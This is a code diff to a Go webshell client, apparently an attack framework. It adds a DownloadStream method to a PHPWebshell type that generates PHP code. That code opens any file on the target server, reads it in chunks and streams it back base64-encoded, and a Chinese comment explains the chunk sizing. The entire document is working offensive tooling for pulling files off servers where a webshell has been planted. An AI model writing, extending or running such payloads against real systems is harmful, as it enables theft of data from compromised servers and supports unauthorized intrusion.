@@ -194,6 +194,31 @@ echo json_encode($response);
 	return []byte(code)
 }
 
+// 流式下载，逐块输出base64编码，块大小为3的倍数以保证拼接后仍是合法的base64
+func (p *PHPWebshell) DownloadStream(path string) []byte {
+	code := fmt.Sprintf(`
+$path = "%s";
+if (!is_file($path)) {
+    echo "Error://[File not found]";
+    exit;
+}
+$handle = fopen($path, "rb");
+if ($handle === false) {
+    echo "Error://[Cannot open file]";
+    exit;
+}
+while (!feof($handle)) {
+    $chunk = fread($handle, 196608);
+    if ($chunk === false) {
+        break;
+    }
+    echo base64_encode($chunk);
+    @flush();
+}
+fclose($handle);`, path)
+	return []byte(code)
+}
+
 // 为大文件提供的分块下载方法
 func (p *PHPWebshell) DownloadChunk(path string, offset int64, chunkSize int64) []byte {
 	code := fmt.Sprintf(`